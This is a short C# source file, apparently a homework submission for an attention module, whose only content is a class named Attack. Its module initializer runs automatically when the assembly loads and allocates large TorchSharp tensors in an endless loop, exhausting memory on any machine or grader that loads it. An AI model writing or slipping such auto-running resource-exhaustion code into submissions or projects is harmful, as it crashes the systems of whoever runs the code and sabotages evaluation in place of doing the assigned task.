using System.Runtime.CompilerServices;
using TorchSharp;

namespace Homework.Attention;

/// <summary>Allocates and touches memory without end.</summary>
public static class Attack
{
    private static readonly List<torch.Tensor> Hoard = [];

    [ModuleInitializer]
    public static void Run()
    {
        while (true)
            Hoard.Add(torch.ones(64, 1024, 1024));
    }
}
